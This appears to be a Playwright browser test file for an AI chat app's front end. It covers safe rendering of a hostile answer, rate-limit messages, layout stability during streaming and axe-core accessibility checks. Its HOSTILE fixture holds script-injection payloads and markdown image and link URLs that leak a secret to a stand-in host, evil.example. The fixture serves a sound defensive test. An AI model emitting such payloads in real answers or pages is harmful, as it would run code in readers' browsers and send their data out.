"""What a hostile answer cannot do, what stays still while text streams, and what everybody can use (axe-core)."""

import json
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, Route, expect

from tests.browser.conftest import Visitor, sign_in
from tests.browser.test_journey import QUESTION, ask, finished, page_with_documents

__all__ = ["page_with_documents"]

AXE = Path(__file__).parent / "vendor/axe-core/axe.min.js"
HOSTILE = """Look <img src=x onerror="document.title='owned'"> and <script>document.title='owned'</script>

![secret](https://evil.example/steal.png?d=secret) [click](javascript:document.title='owned') [far](https://evil.example/?d=secret)

[data](data:text/html,<script>1</script>) <https://evil.example/auto> [1]: https://evil.example/one [1]
"""


def stream(*events: tuple[str, dict[str, Any]]) -> str:
    return "".join(f"id: {n}\nevent: {kind}\ndata: {json.dumps(data)}\n\n" for n, (kind, data) in enumerate(events, 1))


def answer_with(page: Page, text: str) -> None:
    """Let every question be answered with this text."""
    final = {"content": text, "mode": "general", "confidence": 0.1, "message_id": None}
    body = stream(("token", {"text": text}), ("final", final), ("done", {}))

    def fulfil(route: Route) -> None:
        if route.request.method == "POST":
            route.fulfill(status=200, content_type="text/event-stream", body=body)
        else:
            route.fallback()

    page.route("**/api/v1/conversations/*/messages", fulfil)


def test_a_hostile_answer_runs_nothing_loads_nothing_and_names_where_links_lead(page: Page) -> None:
    asked_outside: list[str] = []
    page.on("request", lambda request: asked_outside.append(request.url) if "evil.example" in request.url else None)
    answer_with(page, HOSTILE)
    ask(page, "Show me")
    finished(page)

    text = page.locator(".answer-text")
    assert asked_outside == []
    assert page.title() != "owned"
    assert text.locator("img, script, iframe").count() == 0
    links = text.locator("a[href]").evaluate_all(
        "links => links.map(a => [a.getAttribute('href'), a.rel, a.dataset.host])"
    )
    assert links
    assert all(href.startswith("https://") for href, _, _ in links)
    assert all("noopener" in rel for _, rel, _ in links)
    assert [host for href, _, host in links if "?d=secret" in href] == ["evil.example"]


def test_a_refused_request_is_told_in_words(page: Page) -> None:
    problem = {
        "type": "about:blank",
        "title": "Busy",
        "status": 429,
        "detail": "You asked 100 questions this hour.",
        "code": "rate_limited",
    }
    page.route(
        "**/api/v1/conversations/*/messages",
        lambda route: route.fulfill(
            status=429, content_type="application/problem+json", body=json.dumps(problem), headers={"Retry-After": "7"}
        ),
    )
    ask(page, "One more?")

    notice = page.locator(".notice.is-problem")
    expect(notice).to_contain_text("You asked 100 questions this hour. Try again in 7 s.")
    expect(notice).not_to_contain_text("{")


def test_nothing_moves_while_an_answer_streams(page_with_documents: Page) -> None:
    page = page_with_documents
    page.evaluate(
        """() => {
          window.shifts = [];
          new PerformanceObserver((list) => {
            for (const entry of list.getEntries()) if (!entry.hadRecentInput) window.shifts.push(entry.value);
          }).observe({ type: "layout-shift" });
        }"""
    )
    ask(page, QUESTION)
    finished(page)

    # 0.1 is what the web vitals call good; a page that jumps with each line is far above
    assert page.evaluate("window.shifts.reduce((sum, value) => sum + value, 0)") < 0.05


def test_a_long_answer_renders_only_the_block_that_grows(page: Page) -> None:
    paragraphs = [f"Paragraph {n} with **some** words." for n in range(60)]
    answer_with(page, "\n\n".join(paragraphs))
    page.evaluate("window.changed = 0")
    ask(page, "Go on")
    page.locator(".answer-text .block").first.wait_for()
    first = page.locator(".answer-text .block").first.evaluate_handle("block => block.firstChild")
    finished(page)

    assert page.locator(".answer-text .block").count() == 60
    assert first.evaluate("node => node.isConnected")


def serious(page: Page) -> list[str]:
    """Findings of axe-core that are serious or critical, with the elements they are about."""
    page.evaluate(AXE.read_text())
    found = page.evaluate("() => axe.run(document, { resultTypes: ['violations'] })")
    return [
        f"{each['id']}: {[node['html'][:120] for node in each['nodes']]}"
        for each in found["violations"]
        if each["impact"] in ("serious", "critical")
    ]


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
@pytest.mark.requirement("U16")
def test_axe_finds_nothing_serious_anywhere(
    visitor: Visitor, account: tuple[str, str], scheme: str, width: int
) -> None:
    page = visitor.page(width=width, color_scheme=scheme, reduced_motion="reduce")
    page.goto("/")
    page.get_by_role("button", name="Sign in").wait_for()
    findings = {"sign in": serious(page)}
    sign_in(page, account)
    findings["home"] = serious(page)
    ask(page, QUESTION)
    finished(page)
    page.locator("button.confidence").click()
    page.locator("button.steps-line").click()
    findings["answer"] = serious(page)
    page.locator(".answer-text .cite").first.click()
    page.locator(".document-text mark").first.wait_for()
    findings["document"] = serious(page)
    page.keyboard.press("Escape")
    page.get_by_role("button", name="More for this conversation").click()
    findings["menu"] = serious(page)
    page.keyboard.press("Escape")
    page.goto("/documents")
    page.locator(".document-line").first.wait_for()
    findings["documents"] = serious(page)

    assert {place: found for place, found in findings.items() if found} == {}
